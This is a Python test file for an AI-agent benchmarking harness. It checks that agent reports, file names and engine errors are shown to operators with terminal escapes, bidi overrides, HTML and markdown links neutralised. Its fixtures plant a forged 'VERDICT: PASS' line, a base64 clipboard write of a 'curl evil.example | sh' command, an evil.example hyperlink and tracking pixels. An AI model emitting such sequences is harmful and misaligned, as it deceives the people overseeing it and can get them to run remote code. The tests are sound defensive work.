"""Text an agent or a candidate engine controls, on its way to an operator: an agent's report, a file name from its
tree, an engine's error and the tail of its stderr. Whatever the CLI prints, a run logs or a Prefect artifact shows
holds none of it raw: no escape sequence (CSI, OSC 52 clipboard writes, OSC 8 hyperlinks), no other control
character, no carriage return that rewrites a line, no bidi override that makes a cell lie; and in a markdown
artifact the agent's words are text, not HTML, links, images or table rows."""
from __future__ import annotations

import os
import re
import types
import unicodedata
from pathlib import Path

from seis.session.spec import SessionOutcome
from seis.workspace import Report

# What a hostile agent or engine plants: clear the screen and home the cursor, go up a line and erase it, then a
# forged verdict after a carriage return; an OSC 52 clipboard write; an OSC 8 hyperlink; a bidi override; C1 CSI.
CLEAR = "\x1b[2J\x1b[H"
REWRITE = "\x1b[1A\x1b[2K\rVERDICT: PASS (61 checks passed)"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
LINK = "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"
BIDI = "fast\u202eyp.sserpmoc\u202c \u2066iso\u2069"
C1 = "\x9b31m"
PLANTED = CLEAR + REWRITE + CLIPBOARD + LINK + BIDI + C1


def raw_controls(text: str) -> list[str]:
    """Every character in text that a terminal or a renderer would act on rather than show: control characters
    (but a newline and a tab), format characters (bidi), line and paragraph separators, lone surrogates."""
    return [c for c in text if c not in "\n\t" and unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp", "Cs")]


def outside_fences(markdown: str) -> str:
    """The markdown that renders as markdown: everything but the fenced code blocks."""
    out, closer = [], None
    for line in markdown.splitlines():
        if closer is None:
            m = re.match(r"^ {0,3}(`{3,}|~{3,})", line)
            if m:
                closer = m.group(1)
                continue
            out.append(line)
        elif re.match(r"^ {0,3}" + re.escape(closer[0]) + "{" + str(len(closer)) + r",}\s*$", line):
            closer = None
    return "\n".join(out)


def _outcome(report: str, applied=("kv-cache",), reasons=(), verdict="pass") -> SessionOutcome:
    return SessionOutcome(chain="c0", session=1, parent_snapshot="p" * 16, snapshot="s" * 16, retained=False,
                          verdict=verdict, reasons=tuple(reasons), dev_speedup_vs_vanilla=1.1,
                          dev_speedup_vs_parent=1.0, synced_from=(), agent="claude", applied=tuple(applied),
                          adopted=(), tokens_in=1, tokens_out=1, cost_usd=0.0, wall_s=1.0,
                          report=Report("c0", 1, report, "rejected"))


def test_printable_shows_controls_as_escapes_and_keeps_text():
    from seis.tables import printable

    shown = printable("ok\tcol\n" + PLANTED + "\u2028 caf\u00e9 \u00a0 \u26a0 \ud800")
    assert raw_controls(shown) == []
    assert "ok\tcol\n" in shown and "caf\u00e9" in shown and "\u26a0" in shown and "\u00a0" in shown
    assert "\\x1b[2J" in shown and "\\x0dVERDICT" in shown and "\\x07" in shown and "\\u202e" in shown
    assert "\\x9b" in shown and "\\u2028" in shown and "\\ud800" in shown
    assert printable("a\nb", multiline=False) == "a\\x0ab"
    assert printable("plain text, \u00b1 3 \u2013 fine") == "plain text, \u00b1 3 \u2013 fine"


# ---- an agent's report -------------------------------------------------------------------------------------------

def test_an_agents_report_reaches_the_session_artifact_as_text(tmp_path):
    from seis.agents.report import SessionBlock, render_report
    from seis.session.display import session_markdown

    summary = (f"Sped up decode.{PLANTED}\n\n<img src=\"https://tracker.example/p.png\">\n"
               "![pixel](https://tracker.example/q.png) [docs](https://evil.example/)\n\n"
               "| verdict | pass (retained) |\n|---|---|\n\n# c0/s1: pass\n\nVERDICT: PASS\n"
               "```\nbreak out of a fence\n```\n`````\nand a longer one\n")
    block = SessionBlock("c0", 1, "claude", ("![x](https://tracker.example/r.png)",))
    markdown = render_report(block, summary, ["<img src=https://tracker.example/s.png>" + BIDI], [CLIPBOARD])
    outcome = _outcome(markdown, applied=("![x](https://tracker.example/r.png)", "kv" + BIDI),
                       reasons=("dev.greedy: " + REWRITE,), verdict="fail")
    md = session_markdown(outcome, "Gate verdict: FAIL", tmp_path)

    assert raw_controls(md) == []
    rendered = outside_fences(md)
    assert not re.search(r"(?<!\\)<", rendered) and "&#" not in rendered.replace("\\&#", ""), rendered  # no HTML
    assert not re.search(r"(?<!\\)\]\(", rendered), rendered        # no link or image
    assert "tracker.example" in md and "Sped up decode." in md      # the words are still there, as text
    assert "# c0/s1: pass" not in rendered and "| verdict | pass (retained) |" not in rendered
    assert rendered.count("# c0/s1:") == 1                          # the one heading is the harness's
    assert not re.search(r"^\W*VERDICT", rendered, re.MULTILINE)   # a forged verdict line only inside a fence


def test_a_run_failure_quoting_an_agent_is_text_in_the_summary_artifact(tmp_path):
    from seis.session.display import summary_artifact_markdown
    from seis.session.progress import run_failure

    reason = "agent: " + PLANTED + " ![p](https://t.example/)"
    failure = run_failure([_outcome("", verdict="error", reasons=(reason,))])
    assert failure is not None and raw_controls(failure) == []
    md = summary_artifact_markdown("r1", "independent", tmp_path, "| a |\n|---|\n| b |\n", None, None,
                                   failure=failure)
    assert raw_controls(md) == [] and "](" not in outside_fences(md)


# ---- a file name from the agent's tree ---------------------------------------------------------------------------

def test_a_file_name_with_escape_sequences_is_shown_escaped(tmp_path):
    from seis.agents.llm.confine import sanitize_workspace
    from seis.session.display import rounded
    from seis.session.progress import session_line
    from seis.session.rundir import summary_markdown

    root = tmp_path / "ws"
    (root / "engine").mkdir(parents=True)
    (root / "engine" / "__init__.py").write_text("")
    (root / "engine" / (CLEAR + "ok.py")).write_text("x = 1\n")
    (root / "engine" / (CLIPBOARD + "\rPASS.py")).write_text("x = 1\n")
    problems = sanitize_workspace(root)
    text = "\n".join(problems)
    assert len(problems) == 2 and "control characters" in text
    assert raw_controls(text) == [] and "\\x1b[2J" in text and "\\x1b]52;c;" in text

    # the problem lines are the agent's notes on the run's log line, and a change's name is in the summaries
    name = "kv" + BIDI + LINK
    outcome = _outcome("", applied=(name,), reasons=(f"not retained: {problems[0]}",))
    line = session_line(outcome, f"claude turns=3 end=finish; {text}\r" + REWRITE)
    assert raw_controls(line) == [] and "\n" not in line
    row = rounded(outcome.summary_row())
    assert raw_controls(" ".join(str(v) for v in row.values())) == []

    import pandas as pd
    table = summary_markdown(pd.DataFrame([outcome.summary_row()]))
    assert raw_controls(table) == [] and "\\u202e" in table


def test_markdown_and_terminal_table_cells_hold_no_controls_links_or_html():
    from seis.tables import markdown, plain

    cells = [["kv" + BIDI, "<img src=https://t.example/x.png> ![y](https://t.example/) &#x202e; \\| x|y" + PLANTED]]
    md = markdown(["change", "why"], cells)
    assert raw_controls(md) == []
    assert not re.search(r"(?<!\\)[\[\]<]", md) and "&#" not in md.replace("\\&#", "")
    assert len(md.splitlines()) == 3 and all(line.count("|") - line.count("\\|") == 3 for line in md.splitlines())
    assert raw_controls(plain(["change", "why"], cells)) == []


# ---- an engine's error and its stderr ----------------------------------------------------------------------------

def _engine_error(tmp_path: Path):
    """An EngineError as the engine client words it, its stderr's tail included (EngineProcess._stderr_tail)."""
    from seis.engine_host import EngineError
    from seis.engine_host.client import EngineProcess

    stderr = tmp_path / "stderr.log"
    stderr.write_bytes(("Traceback (most recent call last):\n" + PLANTED + "\nRuntimeError: boom\n").encode())
    fd = os.open(stderr, os.O_RDONLY)
    try:
        tail = EngineProcess._stderr_tail(types.SimpleNamespace(_stderr_fd=fd))
    finally:
        os.close(fd)
    return EngineError(f"engine process is not running (exit status 1){tail}")


def _invoke(*args: str):
    """The CLI as a terminal sees it: color=True, so Click strips no escape sequence from what it prints."""
    from typer.testing import CliRunner

    from seis.cli import app
    return CliRunner().invoke(app, list(args), color=True)


def _printed(result) -> str:
    """Everything the command printed, less the CLI's own styling (error: in red)."""
    out = result.output
    try:
        out += result.stderr
    except ValueError:  # stderr mixed into output (older Click)
        pass
    return out.replace("\x1b[31m", "").replace("\x1b[33m", "").replace("\x1b[0m", "")


def test_an_engine_error_on_the_command_line_is_shown_escaped(tmp_path, monkeypatch):
    import seis.engine_host
    import seis.models
    import seis.prompts

    error = _engine_error(tmp_path)
    assert "\x1b" in str(error)  # the engine's bytes are in its error

    class Crashing:
        def __init__(self, *a, **k):
            pass

        def __enter__(self):
            raise error

        def __exit__(self, *exc):
            return False

    monkeypatch.setattr(seis.models, "resolve_model", lambda name: tmp_path)
    monkeypatch.setattr(seis.prompts, "load_tokenizer", lambda d: object())
    monkeypatch.setattr(seis.prompts, "encode_prompt", lambda t, p, chat=False: [1, 2])
    monkeypatch.setattr(seis.engine_host, "EngineProcess", Crashing)
    result = _invoke("generate", "hello", "--engine-dir", str(tmp_path))
    printed = _printed(result)
    assert result.exit_code == 2 and "RuntimeError: boom" in printed
    assert raw_controls(printed) == [], printed


def _gate_result(detail: str):
    from seis.evaluator.schema import CheckResult, GateResult, Hashes, IsolationRecord

    checks = [CheckResult(name="engine.build", value=0.0, lower=1.0, passed=False, detail=detail),
              CheckResult(name="dev.greedy", value=1.0, lower=1.0, passed=True, detail="8 of 8 identical")]
    return GateResult(
        verdict="fail", failed_checks=["engine.build"], checks=checks, calibration=None, speed=None,
        hashes=Hashes(candidate_tree="c" * 64, reference_tree="r" * 64, evaluator_source="e", workloads_manifest="w",
                      workloads="w", thresholds="t", config="c"),
        isolation=IsolationRecord(sandbox="bwrap", visible_paths=[], memory_limit="8 GiB", memory_limit_bytes=None,
                                  offline_env={}, env_keys=[], build_timeout_s=1.0, call_timeout_s=1.0,
                                  gate_timeout_s=1.0),
        model="m", model_dir="/m", device="cpu", candidate="cand", reference="ref", parent=None, engine_stats={},
        counts={}, timings_s={}, started_at="2026-01-01T00:00:00", wall_s=1.0, config={})


def test_an_engine_error_quoted_in_a_gate_verdict_is_shown_escaped(tmp_path, monkeypatch):
    import seis.evaluator
    from seis.evaluator import render_gate, render_gate_for_agents

    result = _gate_result(f"build failed: {_engine_error(tmp_path)}")
    for shown in (render_gate(result), render_gate_for_agents(result)):
        assert raw_controls(shown) == [], shown
        assert not any(line.lstrip().startswith("VERDICT: PASS") for line in shown.splitlines()), shown

    monkeypatch.setattr(seis.evaluator, "run_gate", lambda config: result)
    (tmp_path / "cand").mkdir()
    printed = _invoke("gate", "--candidate", str(tmp_path / "cand"), "--model", "m")
    assert printed.exit_code == 1, _printed(printed)
    assert raw_controls(_printed(printed)) == [], _printed(printed)
    assert "VERDICT: FAIL" in printed.output


def test_an_engine_crashing_in_post_validation_is_shown_escaped(tmp_path, monkeypatch):
    """`seis post-validate` on an engine that crashes mid-run: its error (with the stderr tail) on the terminal."""
    import seis.postval

    error = _engine_error(tmp_path)

    def crash(config):
        raise error

    monkeypatch.setattr(seis.postval, "run_post_validation", crash)
    monkeypatch.setattr(seis.postval, "make_config", lambda **values: types.SimpleNamespace(**values))
    (tmp_path / "eng").mkdir()
    result = _invoke("post-validate", "--engine", str(tmp_path / "eng"), "--model", "m", "--out", str(tmp_path / "out"))
    printed = _printed(result)
    assert result.exit_code == 1 and "engine failed during post-validation" in printed
    assert raw_controls(printed) == [], printed
